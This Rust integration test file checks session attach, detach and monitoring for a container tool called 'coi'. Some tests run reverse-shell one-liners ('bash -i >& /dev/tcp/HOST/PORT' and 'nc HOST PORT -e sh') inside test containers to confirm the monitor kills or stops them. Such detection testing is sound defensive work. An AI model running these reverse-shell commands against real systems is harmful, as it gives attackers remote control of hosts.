//! Sessions in a real terminal: attach, detach, and a watch that does not care which.

use coi_tests::incus::{self, Foreign, exec};
use coi_tests::{Attacker, Coi, SMALL, TINY, Terminal, Viewer, actions, end, eventually};
use serde_json::{Value, json};

/// Types a command whose end cannot be mistaken for its echo.
fn enter(terminal: &Terminal, line: &str, mark: &str) {
    let (head, tail) = mark.split_at(1);
    terminal.enter(&format!("{line}; echo \"{head}\"\"{tail}\":$?"));
}

#[test]
fn detached_and_attached_and_killed_while_detached() {
    let coi = Coi::new();
    let name = coi.container();
    let terminal = Terminal::open(&coi);
    enter(&terminal, "coi shell --tool bash", "ended");
    terminal.until("code@");
    terminal.enter("here=$((20+22)); echo \"here\"=$here $PWD");
    terminal.until("here=42 /workspace");
    let row = |coi: &Coi| -> Value {
        let list: Value =
            serde_json::from_slice(&coi.coi(&["list", "--format", "json"]).expect(0).stdout).unwrap();
        list.as_array().unwrap().iter().find(|row| row["name"] == name.as_str()).cloned().unwrap()
    };
    assert_eq!((&row(&coi)["status"], &row(&coi)["watched"]), (&json!("running"), &json!(true)));

    terminal.press("C-b d");
    terminal.until("ended:0");
    terminal.until(&format!("{name} goes on, and is watched"));
    assert_eq!((&row(&coi)["status"], &row(&coi)["watched"]), (&json!("running"), &json!(true)));

    enter(&terminal, "coi attach", "left");
    terminal.until("here=42 /workspace");
    terminal.enter("echo \"still\" $here");
    terminal.until("still 42");
    terminal.press("C-b d");
    terminal.until("left:0");

    let viewer = Viewer::attach(&coi, &name);
    let attacker = Attacker::on_bridge();
    let attack = attacker.fill("bash -i >& /dev/tcp/HOST/PORT 0>&1");
    let attack = end(&mut exec(&name, "/workspace", &["bash", "-c", &attack]));
    assert_ne!(attack.code, 0);
    viewer.until_state("killed");
    eventually("it is gone", || incus::instance(&name).is_none());
    assert_eq!(
        actions(&coi.audit(&name)),
        [("reverse-shell-socket".into(), "kill".into(), "success".into())]
    );
    enter(&terminal, "coi attach", "gone");
    terminal.until("gone:5");
    terminal.until("no container of");
}

#[test]
fn a_shell_in_the_agents_place_and_one_beside_it() {
    let coi = Coi::new();
    let began = coi.coi(&["shell", "--background", "--debug", "--tool", "claude"]).expect(0);
    let name = began.text().trim().to_owned();
    coi.coi(&["tmux", "send", &name, "seq 1000 2000; echo \"do\"ne"]).expect(0);
    let seen = |more: &[&str]| coi.coi(&[&["tmux", "capture", &name], more].concat()).expect(0).text();
    eventually("its lines are printed", || seen(&[]).contains("\ndone\n"));
    assert!(!seen(&[]).contains("\n1500\n"));
    assert!(seen(&["--history", "1000"]).contains("\n1500\n"));

    let terminal = Terminal::open(&coi);
    enter(&terminal, "coi attach --bash", "left");
    terminal.until("code@");
    terminal.enter("echo \"be\"side $PWD; exit 7");
    terminal.until("beside /workspace");
    terminal.until("left:7");
    assert!(seen(&[]).contains("\ndone\n"), "the session goes on");
    coi.coi(&["kill", &name]).expect(0);
}

#[test]
fn killed_while_attached_and_ended_by_exit() {
    let coi = Coi::new();
    let name = coi.container();
    let terminal = Terminal::open(&coi);
    enter(&terminal, &format!("coi shell --tool bash --image {SMALL}"), "over");
    terminal.until("code@");
    terminal.enter("exit 0");
    terminal.until("over:0");
    assert_eq!(incus::instance(&name), None);

    let attacker = Attacker::on_bridge();
    enter(&terminal, &format!("coi shell --tool bash --image {SMALL}"), "killed");
    terminal.until("code@");
    terminal.enter(&attacker.fill("bash -i >& /dev/tcp/HOST/PORT 0>&1"));
    let screen = terminal.until("killed:137");
    assert!(
        screen.contains(&format!("coi: killed {name}: rule reverse-shell-socket (critical): ")),
        "{screen}"
    );
    assert_eq!(incus::instance(&name), None);
    assert_eq!(
        actions(&coi.audit(&name)),
        [("reverse-shell-socket".into(), "kill".into(), "success".into())]
    );
}

#[test]
fn interrupting_a_viewer_detaches_the_viewer_only() {
    let coi = Coi::new();
    let container = Foreign::make(TINY);
    let name = container.name.as_str();
    container.start();
    coi.coi(&["monitor", "--attach", name, "--respond", "--detach"]).expect(0);
    let terminal = Terminal::open(&coi);
    enter(&terminal, &format!("coi monitor --attach {name}"), "viewed");
    terminal.until("ready");
    end(&mut exec(name, "/", &["true", "in-sight"])).expect(0);
    terminal.until("exec");
    let screen = terminal.until("true in-sight");
    assert!(!screen.contains("viewed:"), "{screen}");
    terminal.press("C-c");
    terminal.until("viewed:0");
    let (_, watch) = coi.ask(&format!("/v1/watches/{name}"));
    assert_eq!((&watch["state"], &watch["respond"]), (&json!("running"), &json!(true)));
    assert_eq!(incus::status(name), "Running");

    // And it responds still: a container that is not COI's is stopped, not deleted.
    let viewer = Viewer::attach(&coi, name);
    let attacker = Attacker::on_bridge();
    let attack = "until ip route | grep -q default; do usleep 10000; done; nc HOST PORT -e sh";
    end(&mut exec(name, "/", &["sh", "-c", &attacker.fill(attack)]));
    viewer.until_state("killed");
    assert_eq!(incus::status(name), "Stopped");
    assert_eq!(actions(&coi.audit(name)), [("reverse-shell-socket".into(), "kill".into(), "success".into())]);
}
